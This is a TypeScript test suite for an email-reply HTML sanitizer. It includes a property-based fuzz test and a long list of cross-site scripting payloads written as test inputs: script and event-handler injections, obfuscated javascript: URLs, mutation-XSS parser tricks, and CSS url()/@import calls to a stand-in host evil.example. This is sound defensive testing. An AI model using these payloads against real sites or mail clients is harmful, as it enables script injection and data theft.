import fc from 'fast-check';
import { type DefaultTreeAdapterMap, html as standard, parseFragment, serialize } from 'parse5';
import { readMarkup } from '../../../../../nodes/shared/email/html/markup';

const whole = (html: string) => readMarkup(html, [{ start: 0, end: html.length }]).replyHtml;

const HARMLESS_ELEMENTS = new Set(
  (
    'a abbr address b bdi bdo big blockquote br caption center cite code col colgroup dd del dfn div dl dt em ' +
    'figcaption figure font h1 h2 h3 h4 h5 h6 hr i img ins kbd li mark ol p pre q s samp section small span ' +
    'strike strong sub sup table tbody td tfoot th thead tr tt u ul var wbr'
  ).split(' '),
);
const HARMLESS_ATTRIBUTES = new Set(
  (
    'abbr align alt bgcolor border cellpadding cellspacing color colspan dir face height href lang reversed ' +
    'rowspan scope size span src start style title valign width'
  ).split(' '),
);

function harmOf({ tagName, namespaceURI, attrs }: DefaultTreeAdapterMap['element']): string[] {
  const harm: string[] = [];
  if (!HARMLESS_ELEMENTS.has(tagName) || namespaceURI !== standard.NS.HTML) harm.push(tagName);
  for (const { name, value } of attrs) {
    if (!HARMLESS_ATTRIBUTES.has(name)) harm.push(name);
    if (
      name === 'href' &&
      !/^(?:#|(?:https?|ftp|mailto|tel|sms|callto|whatsapp|webcal):)/i.test(value)
    )
      harm.push(value);
    if (
      name === 'src' &&
      !/^(?:https?:\/\/|cid:|data:image\/(?:png|gif|jpe?g|webp|bmp);base64,)/i.test(value)
    )
      harm.push(value);
    if (
      name === 'style' &&
      /url|expression|import|[\\@/]|image|position|behavior|:\s*-\d/i.test(value)
    )
      harm.push(value);
    if (name === 'style') harm.push(...functionsIn(value), ...negativesIn(value));
  }
  return harm;
}

/** Functions in a style other than those of colours: each may compute a length. */
function functionsIn(style: string): string[] {
  const calls = style.match(/[^\s(),:;]*\s*\(/g) ?? [];
  return calls.filter((call) => !/^(?:rgb|hsl)a?\($/i.test(call));
}

/** Numbers below zero. CSS reads `0-9px` as `0 -9px`; in `Univers-55` the hyphen is part of a name. */
function negativesIn(style: string): string[] {
  return style.match(/(?<![a-z_-])-\s*\.?\d/gi) ?? [];
}

/**
 * What a browser would find: parse5 reads as the HTML standard says. What it makes of the HTML is written
 * and read again, since harm can come from that alone, with scripts switched on and off.
 */
function harmIn(html: string): string[] {
  const harm: string[] = [];
  for (const scriptingEnabled of [true, false]) {
    let read = html;
    for (let round = 0; round < 3; round++) {
      const fragment = parseFragment(read, { scriptingEnabled });
      const nodes: DefaultTreeAdapterMap['childNode'][] = [...fragment.childNodes];
      for (let node = nodes.pop(); node; node = nodes.pop()) {
        if (node.nodeName === '#comment') harm.push('comment');
        if ('tagName' in node) harm.push(...harmOf(node));
        if ('childNodes' in node) nodes.push(...node.childNodes);
      }
      read = serialize(fragment);
    }
  }
  return harm;
}

function textIn(html: string): string {
  const nodes: DefaultTreeAdapterMap['node'][] = [parseFragment(html)];
  const texts: string[] = [];
  for (let node = nodes.pop(); node; node = nodes.pop()) {
    if ('value' in node) texts.push(node.value);
    if ('childNodes' in node) nodes.push(...node.childNodes);
  }
  return texts.reverse().join('');
}

describe('replyHtml', () => {
  it.each([
    '<script>alert(1)</script>',
    '<scr<script>ipt>alert(1)</scr</script>ipt>',
    '<SCRIPT/x src=//evil.example/x.js></SCRIPT>',
    '<img src=x onerror=alert(1)>',
    '<p onclick="alert(1)" ONMOUSEOVER=alert(1)>x</p>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href=" &#14; javascript:alert(1)">x</a>',
    '<a href="java&#10;script:alert(1)">x</a>',
    '<a href="java&Tab;script&colon;alert(1)">x</a>',
    '<a href="&#106;&#97;vascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="\u0001javascript:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<img src="data:image/svg+xml;base64,PHN2Zz4=">',
    '<img src="javascript:alert(1)">',
    '<svg onload=alert(1)><a xlink:href="javascript:alert(1)">x</a></svg>',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<textarea><img title="</textarea><img src=x onerror=alert(1)>">',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="javascript:alert(1)"></object><embed src=x>',
    '<form action="javascript:alert(1)"><input type=submit></form>',
    '<base href="https://evil.example/"><meta http-equiv=refresh content="0;url=javascript:alert(1)">',
    '<div style="background:url(https://evil.example/x.gif)">x</div>',
    '<div style="background-color:red;width:expression(alert(1))">x</div>',
    '<div style="color:u\\72l(https://evil.example)">x</div>',
    '<div style="font-family:url(x)">x</div>',
    '<style>@import url(https://evil.example/x.css)</style>',
    '<table background="https://evil.example/x.gif"><tr><td>x</td></tr></table>',
    '<p title="&quot;><script>alert(1)</script>">x</p>',
    '<p title=\'"onclick=alert(1) x="\'>x</p>',
    '&lt;script&gt;alert(1)&lt;/script&gt;',
    '<![CDATA[<script>alert(1)</script>]]><!--><script>alert(1)</script>-->',
    '<xmp><script>alert(1)</script></xmp><plaintext><script>alert(1)</script>',
    '<a href="https://ok.example" style="position:fixed;top:0;left:0;width:100%">x</a>',
    '<p style="margin: 0 -900px; margin-top:-20px; text-indent:calc(1px - 900px)">x</p>',
    '<a href="ht\u200btps://x.example">x</a><a href="//evil.example">x</a>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    '<math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)></style></annotation-xml>',
    '<select><template><b></select><img src=x onerror=alert(1)>',
    '<noembed><p title="</noembed><img src=x onerror=alert(1)>">',
    '<listing>&lt;img onerror=alert(1) src=x&gt;</listing><pre>\n\n<b>x</b></pre>',
    '<!--!><img src=x onerror=alert(1)><!-- --!><img src=x onerror=alert(1)>-->',
    '<?xml version="1.0"?><?<img src=x onerror=alert(1)>?><% <img src=x onerror=alert(1)> %>',
    '</ <img src=x onerror=alert(1)><//><img src=x onerror=alert(1)><a<b onclick=alert(1)>x',
    '<script/><img src=x onerror=alert(1)></script><style/><img src=x onerror=alert(1)></style>',
    '<input type=image src="https://evil.example/x.gif"><video poster="https://evil.example/x.gif">',
    '<img src="https://x.example/a.png" srcset="https://evil.example/x.png 2x">',
  ])('does no harm: %s', (html) => {
    const safe = whole(html);
    expect(harmIn(safe)).toEqual([]);
    expect(safe).not.toMatch(/<script|background=|position/i);
  });

  it.each([
    'calc(0px - (200px))',
    'calc(1px * (0 - 900))',
    'CALC(0px - 200px)',
    'calc (0px - 200px)',
    '-webkit-calc(0px - 200px)',
    '-moz-calc(0px - 200px)',
    'min(0px, 0px - 200px)',
    'max(calc(0px - 200px), 0px - 300px)',
    'clamp(0px - 300px, 0px - 200px, 0px)',
    'round(down, 0px - 200px, 1px)',
    'mod(18px, 5px)',
    'rem(18px, 5px)',
    'abs(200px)',
    'hypot(200px, 200px)',
    'calc-size(auto, size - 200px)',
    'fit-content(200px)',
    'anchor(top)',
    'anchor-size(width)',
    'env(x, 200px)',
    'var(x, 200px)',
    'attr(width px)',
    'if(else: 200px)',
    'random(1px, 200px)',
    'progress(1px, 0px, 200px)',
    'toggle(1px, 200px)',
    'rgb(calc(0), 0, 0)',
    '(200px)',
  ])('keeps no length that a function computes: %s', (length) => {
    for (const property of [
      'margin-top',
      'margin',
      'width',
      'text-indent',
      'line-height',
      'color',
    ]) {
      expect(whole(`<p style="${property}: ${length}">x</p>`)).toBe('<p>x</p>');
    }
  });

  it.each(['-9px', '0 -9px', '0-9px', '0 0-9px', '1%-9px', '0 -.9em', '0-.9em', '0 - 9px'])(
    'keeps no negative margin: %s',
    (length) => {
      expect(whole(`<p style="margin: ${length}">x</p>`)).toBe('<p>x</p>');
    },
  );

  it.each(['div', 'p', 'span', 'blockquote', 'ul'])('keeps no height of a %s', (name) => {
    expect(whole(`<${name} height="1" style="height: 0">x</${name}>`)).toBe(`<${name}>x</${name}>`);
  });

  it('keeps the height of images and of boxes that grow with their text', () => {
    const image =
      '<img src="https://x.example/a.png" height="9" style="display: block; height: 9px">';
    expect(whole(`x${image}x`)).toContain(image);
    expect(whole('<table><tr><td height="9" style="height: 9px">x</td></tr></table>')).toContain(
      '<td height="9" style="height: 9px">',
    );
    expect(
      whole('<table><tr><td height="1" style="display: block; height: 0">x</td></tr></table>'),
    ).toContain('<td style="display: block">');
  });

  it.each(['0', '0.1', '1px', '5%', '.2em', '1vh', '0 normal'])(
    'keeps no lines as low as %s',
    (height) => {
      expect(whole(`<p style="line-height: ${height}">x</p>`)).toBe('<p>x</p>');
    },
  );

  it.each(['1', '1.5', '100%', '115%', '20px', '1.2em', 'normal'])(
    'keeps lines as high as %s',
    (height) => {
      expect(whole(`<p style="line-height: ${height}">x</p>`)).toBe(
        `<p style="line-height: ${height}">x</p>`,
      );
    },
  );

  it.each([
    'color: rgb(1, 2, 3)',
    'background-color: rgba(1, 2, 3, .5)',
    'border-color: hsl(120, 100%, 50%)',
    'color: HSLA(120, 100%, 50%, .3)',
    'border: 1px solid rgb(204,204,204)',
    'font-family: Univers-55, Arial',
    'margin: 0 auto',
  ])('keeps colours and names: %s', (style) => {
    expect(whole(`<p style="${style}">x</p>`)).toBe(`<p style="${style}">x</p>`);
  });

  it('does no harm whatever the HTML is made of', () => {
    const part = fc.oneof(
      fc.constantFrom(
        '<',
        '>',
        '"',
        "'",
        '=',
        '/',
        ' ',
        '<!--',
        '-->',
        '<a href=',
        'javascript:',
        'onclick=',
        '&#',
        ';',
      ),
      fc.constantFrom(
        '<script>',
        '</script>',
        '<svg>',
        '</svg>',
        '<math><mtext>',
        '<mglyph>',
        '</math>',
        '<table>',
        '</table>',
        '<select>',
        '<template>',
        '<noscript>',
        '</noscript>',
        '<form>',
        '<pre>\n',
        '<style>',
        '</style>',
        '<img src=',
        '<p title="',
        '<p title="--&gt;</style><img src=1 onerror=a()>">',
        '&lt;img src=1 onerror=a()&gt;',
        '<textarea>',
        '</textarea>',
        '<![CDATA[',
        '<p style="',
        '<a href="https://x.example" style="display:block;margin:',
        'margin-top: ',
        'calc(0px - (200px))',
        'min(0px, 1px - 200px)',
        'rgb(1,2,3)',
        '0-9px',
      ),
      fc.string({ unit: 'binary', maxLength: 4 }),
    );
    fc.assert(
      fc.property(fc.array(part, { maxLength: 30 }), (parts) => {
        const safe = whole(parts.join(''));
        expect(harmIn(safe)).toEqual([]);
        expect(textIn(whole(safe))).toBe(textIn(safe));
      }),
      { numRuns: 500 },
    );
  });

  it('shows no code as text', () => {
    expect(
      whole('<title>T</title><script>a()</script><style>b{}</style><noscript>c</noscript>Hi'),
    ).toBe('Hi');
  });

  it('keeps what makes a message readable', () => {
    const html =
      '<p style="color:#333; margin: 0">Hi <b>Sam</b>,<br>see <a href="https://x.example/a?b=1&amp;c=2">this</a></p><ul><li>one</li></ul><img src="cid:logo" alt="Logo">';
    expect(whole(html)).toBe(
      '<p style="color: #333; margin: 0">Hi <b>Sam</b>,<br>see <a href="https://x.example/a?b=1&amp;c=2">this</a></p><ul><li>one</li></ul><img src="cid:logo" alt="Logo">',
    );
  });

  it('holds the given ranges only, within the elements around them', () => {
    const html = '<div><p>new <i>text</i></p><blockquote>old</blockquote></div>';
    const start = html.indexOf('new');
    const { replyHtml } = readMarkup(html, [{ start, end: html.indexOf('</p>') }]);
    expect(replyHtml).toBe('<div><p>new <i>text</i></p></div>');
  });

  it('ends on deep and on wide HTML', () => {
    expect(whole('<div>'.repeat(50_000))).toContain('<div>');
    expect(whole('<a href="https://x.example/'.repeat(20_000))).toBeDefined();
    expect(whole('<img src="data:image/png;base64,' + 'A'.repeat(1_000_000) + '">')).toContain(
      'AAAA',
    );
  });
});
